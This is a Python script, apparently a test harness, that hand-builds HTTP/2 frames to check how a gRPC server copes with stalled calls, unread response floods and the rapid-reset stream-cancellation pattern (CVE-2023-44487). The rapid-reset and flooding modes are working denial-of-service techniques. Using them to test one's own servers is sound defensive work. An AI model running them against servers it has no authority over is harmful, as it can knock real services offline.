#!/usr/bin/python3
"""A bare HTTP/2 client for what a gRPC library will not do, frames built by hand.

    h2raw.py stall ADDRESS METHOD SECONDS
        Calls METHOD (e.g. /api.Registry/ListBundles) with an empty request on a connection
        that gives the server no flow-control window, so the answer cannot leave and the
        call stays in flight; prints `stalled` once the call was sent, holds the connection
        for SECONDS, then closes it.

    h2raw.py rapid-reset ADDRESS METHOD STREAMS SECONDS
        Opens STREAMS calls of METHOD on one connection, each reset (RST_STREAM CANCEL) as
        soon as it is sent (the CVE-2023-44487 pattern), for at most SECONDS. Prints
        `sent=<streams sent> goaway=<0|1> refused=<streams the server refused>`.

    h2raw.py no-read ADDRESS METHOD STREAMS SECONDS
        Opens STREAMS calls of METHOD with every flow-control window open, on a connection
        with a small receive buffer, and reads nothing for SECONDS, so the answers back up
        in the server. Then reads what is left: prints `cut=1` if the server had ended the
        connection, `cut=0` if the answers still came.

    h2raw.py reset-when-full ADDRESS METHOD STREAMS RESETS
        As no-read, with STREAMS calls; after a second, while the answers still fill the
        connection, opens and resets RESETS more streams, then reads every frame to the end
        of the connection. Prints `goaway=<0|1> end=<0|1>`.
"""
import socket
import struct
import sys
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
SETTINGS_INITIAL_WINDOW_SIZE = 4
MAX_WINDOW = 2**31 - 1
DEFAULT_WINDOW = 65535
CANCEL, REFUSED_STREAM = 8, 7


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def literal(name, value):
    """An HPACK literal header field without indexing, no Huffman coding."""
    def string(s):
        assert len(s) < 127
        return bytes([len(s)]) + s.encode()
    return b"\x00" + string(name) + string(value)


def call_headers(method):
    return b"".join(literal(n, v) for n, v in [
        (":method", "POST"), (":scheme", "http"), (":path", method),
        (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")])


EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"  # gRPC: not compressed, length 0


class Connection:
    def __init__(self, address, settings=b""):
        host, port = address.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.goaway = threading.Event()
        self.closed = threading.Event()
        self.refused = 0
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
        self.reader = threading.Thread(target=self.read_frames, daemon=True)
        self.reader.start()

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def read_exact(self, n):
        out = b""
        while len(out) < n:
            chunk = self.sock.recv(n - len(out))
            if not chunk:
                raise EOFError
            out += chunk
        return out

    def read_frames(self):
        try:
            while True:
                head = self.read_exact(9)
                length = int.from_bytes(head[:3], "big")
                kind, flags = head[3], head[4]
                stream = int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
                payload = self.read_exact(length)
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                elif kind == GOAWAY:
                    self.goaway.set()
                elif kind == RST_STREAM and int.from_bytes(payload, "big") == REFUSED_STREAM:
                    self.refused += 1
                del stream
        except (EOFError, OSError):
            pass
        self.closed.set()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def stall(address, method, seconds):
    conn = Connection(address, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0))
    conn.send(frame(HEADERS, END_HEADERS, 1, call_headers(method)) +
              frame(DATA, END_STREAM, 1, EMPTY_MESSAGE))
    print("stalled", flush=True)
    time.sleep(seconds)
    conn.close()


def rapid_reset(address, method, streams, seconds):
    conn = Connection(address)
    headers = call_headers(method)
    deadline = time.monotonic() + seconds
    sent = 0
    batch = []
    try:
        for i in range(streams):
            if conn.goaway.is_set() or conn.closed.is_set() or time.monotonic() > deadline:
                break
            stream = 1 + 2 * i
            batch.append(frame(HEADERS, END_HEADERS, stream, headers) +
                         frame(DATA, END_STREAM, stream, EMPTY_MESSAGE) +
                         frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
            sent += 1
            if len(batch) == 100:
                conn.send(b"".join(batch))
                batch = []
        if batch:
            conn.send(b"".join(batch))
    except OSError:
        pass
    conn.closed.wait(min(2.0, max(0.0, deadline - time.monotonic())))
    print(f"sent={sent} goaway={int(conn.goaway.is_set())} refused={conn.refused}", flush=True)
    conn.close()


def open_flooded(address, method, streams):
    """A connection with every window open and a small receive buffer, STREAMS calls sent."""
    host, port = address.rsplit(":", 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(30)  # a server that stops reading fails the test, not hangs it
    sock.connect((host, int(port)))
    headers = call_headers(method)
    calls = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, headers) +
                     frame(DATA, END_STREAM, 1 + 2 * i, EMPTY_MESSAGE) for i in range(streams))
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
                 frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW)) +
                 frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - DEFAULT_WINDOW)) + calls)
    return sock


def no_read(address, method, streams, seconds):
    sock = open_flooded(address, method, streams)
    time.sleep(seconds)
    sock.settimeout(3)
    cut = 0
    received = 0
    try:
        while chunk := sock.recv(1 << 16):
            received += len(chunk)
        cut = 1
    except ConnectionResetError:
        cut = 1
    except socket.timeout:
        pass
    print(f"cut={cut} received={received}", flush=True)
    sock.close()


def reset_when_full(address, method, streams, resets):
    sock = open_flooded(address, method, streams)
    time.sleep(1)
    headers = call_headers(method)
    first = 1 + 2 * streams
    sock.sendall(b"".join(frame(HEADERS, END_HEADERS, first + 2 * i, headers) +
                          frame(RST_STREAM, 0, first + 2 * i, struct.pack(">I", CANCEL))
                          for i in range(resets)))
    time.sleep(0.3)
    sock.settimeout(10)
    data = b""
    end = 0
    try:
        while chunk := sock.recv(1 << 16):
            data += chunk
        end = 1
    except ConnectionResetError:
        end = 1
    except socket.timeout:
        pass
    goaway = 0
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at:at + 3], "big")
        goaway |= data[at + 3] == GOAWAY and at + 9 + length <= len(data)
        at += 9 + length
    print(f"goaway={int(goaway)} end={end}", flush=True)
    sock.close()


def main():
    mode, address, method = sys.argv[1], sys.argv[2], sys.argv[3]
    try:
        run(mode, address, method)
    except socket.timeout:
        sys.exit(f"h2raw {mode}: the server took no data for 30 s")


def run(mode, address, method):
    if mode == "stall":
        stall(address, method, float(sys.argv[4]))
    elif mode == "rapid-reset":
        rapid_reset(address, method, int(sys.argv[4]), float(sys.argv[5]))
    elif mode == "no-read":
        no_read(address, method, int(sys.argv[4]), float(sys.argv[5]))
    elif mode == "reset-when-full":
        reset_when_full(address, method, int(sys.argv[4]), int(sys.argv[5]))
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
